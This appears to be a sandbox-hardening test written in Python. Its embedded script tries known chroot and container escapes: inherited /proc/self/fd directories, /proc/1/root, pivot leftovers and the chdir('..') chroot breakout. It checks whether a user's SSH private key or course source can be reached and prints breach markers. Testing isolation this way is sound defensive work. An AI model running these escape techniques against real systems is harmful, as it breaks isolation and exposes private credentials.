"""Leaves its root by the known ways: open folders, parents of parents, /proc/1/root, pivoting."""

STOCK = False
BEFORE = """
@GUARD@
import os
ways = []
for number in range(64):
    try:
        if os.path.isdir(f"/proc/self/fd/{number}"):
            ways.append(f"/proc/self/fd/{number}/" + "../" * 20)
    except OSError:
        pass
ways += ["/" + "../" * 30, "/proc/1/root/", "/proc/1/cwd/", f"/proc/{os.getppid()}/root/", "/oldroot/", "/.old/", "/mnt/", "/newroot/"]
for way in ways:
    for path in ("@HOME@/.ssh/id_ed25519", "@COURSE@/source"):
        if os.path.exists(way + path):
            print("!breach! reached", way + path)
try:
    os.makedirs("jail")
    os.chroot("jail")
    for _ in range(30):
        os.chdir("..")
    os.chroot(".")
    if os.path.exists("@HOME@"):
        print("!breach! left the root")
except OSError as error:
    print(error)
"""
